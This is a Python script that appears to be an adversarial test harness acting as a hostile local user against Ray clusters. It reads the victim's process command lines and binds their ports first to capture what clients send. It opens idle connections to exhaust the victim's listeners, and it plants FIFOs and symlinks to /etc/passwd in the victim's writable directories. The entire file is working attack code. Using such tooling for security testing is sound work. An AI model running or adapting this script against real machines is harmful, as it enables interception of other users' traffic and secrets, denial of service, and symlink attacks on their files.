"""Another user of a machine, who attacks Ray clusters from the launch on: `python3 hostile.py VICTIM_UID ADDRESS...` until its standard input ends.

It reads the command lines of the victim's processes again and again, and listens on each number in them that could be a port, before the victim's program does: on loopback, on all addresses and
on the given ones. Whoever connects is answered as a server of HTTP/2 where that is spoken, so that a client sends what it has, else with rubbish; then the listener is closed, so that the
victim's program gets the port after all. It opens connections to every listener of the victim on which it sends nothing. Where the victim's command lines name directories in which it may write, it
leaves a FIFO and a link. At the end it prints JSON: how many ports it had, and what it was sent, in hexadecimal digits.
"""

import glob
import json
import os
import re
import selectors
import socket
import sys
import time

VICTIM, ADDRESSES = int(sys.argv[1]), ["127.0.0.1", "0.0.0.0", "::1"] + sys.argv[2:]
IDLE_EACH, IDLE_ALL, HELD = 40, 400, 300  # connections to one listener and to all, and listeners of ours
SETTINGS = b"\0\0\0\4\0\0\0\0\0" + b"\0\0\0\4\1\0\0\0\0"  # of a server that has received the client's
NUMBER = re.compile(rb"(?<![0-9])[1-9][0-9]{3,4}(?![0-9])")

poll = selectors.DefaultSelector()
listeners, ports, tried, got, idle, planted, refused = {}, set(), set(), {}, {}, set(), {}


def listen(port):
    for address in ADDRESSES:
        s = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        if ":" in address:
            s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        try:
            s.bind((address, port))
            s.listen(64)
        except OSError as error:
            refused[error.errno] = refused.get(error.errno, 0) + 1
            s.close()
            continue
        s.setblocking(False)
        listeners[s] = port
        ports.add(port)
        poll.register(s, selectors.EVENT_READ, accept)


def close(port):
    for s in [s for s, p in listeners.items() if p == port]:
        poll.unregister(s)
        s.close()
        del listeners[s]


def accept(s):
    try:
        connection, _ = s.accept()
    except OSError:
        return
    connection.setblocking(False)
    got[connection] = [listeners[s], b""]
    poll.register(connection, selectors.EVENT_READ, receive)


def receive(connection):
    try:
        data = connection.recv(65536)
    except OSError:
        data = b""
    entry = got[connection]
    entry[1] += data
    try:
        if entry[1].startswith(b"PRI "):
            connection.sendall(SETTINGS)
        elif data:
            connection.sendall(b"HTTP/1.1 307 Elsewhere\r\nLocation: http://127.0.0.1:%d/\r\n\r\n" % entry[0])
    except OSError:
        pass
    if not data or not entry[1].startswith(b"PRI "):
        poll.unregister(connection)
        connection.close()
        if entry[1]:
            close(entry[0])


def look():
    for path in glob.glob("/proc/[0-9]*"):
        try:
            if os.stat(path).st_uid != VICTIM:
                continue
            with open(path + "/cmdline", "rb") as f:
                text = f.read()
        except OSError:
            continue
        for number in {int(n) for n in NUMBER.findall(text)} - tried:
            if 1024 <= number <= 65535 and len(listeners) < HELD:
                tried.add(number)
                listen(number)
        plant(text)


def plant(text):
    for name in set(re.findall(rb"/[^\0=:,]+", text)) - planted:
        planted.add(name)
        try:
            directory = name if os.path.isdir(name) else os.path.dirname(name)
            if os.stat(directory).st_uid == VICTIM and os.access(directory, os.W_OK):
                os.mkfifo(os.path.join(directory, b"driver.log"))
                os.symlink("/etc/passwd", os.path.join(directory, b"state.json"))
        except OSError:
            pass


def flood():
    for table, family, host in (("/proc/net/tcp", socket.AF_INET, "127.0.0.1"), ("/proc/net/tcp6", socket.AF_INET6, "::1")):
        with open(table) as f:
            rows = [line.split() for line in f.readlines()[1:]]
        for row in rows:
            if row[3] != "0A" or int(row[7]) != VICTIM:
                continue
            port = int(row[1].rpartition(":")[2], 16)
            held = idle.setdefault(port, [])
            if len(held) < IDLE_EACH and sum(map(len, idle.values())) < IDLE_ALL:
                s = socket.socket(family)
                s.setblocking(False)
                s.connect_ex((host, port))
                held.append(s)


def main():
    poll.register(0, selectors.EVENT_READ, None)
    print("ready", flush=True)
    floods = 0.0
    while True:
        look()
        for key, _ in poll.select(0.02):
            if key.data is None:
                if not os.read(0, 4096):
                    print(json.dumps({"ports": sorted(ports), "refused": refused, "idle": sum(map(len, idle.values())),
                                      "received": [{"port": port, "bytes": data.hex()} for port, data in got.values() if data]}))
                    return
            else:
                key.data(key.fileobj)
        if time.monotonic() > floods:
            floods = time.monotonic() + 0.5
            flood()


main()
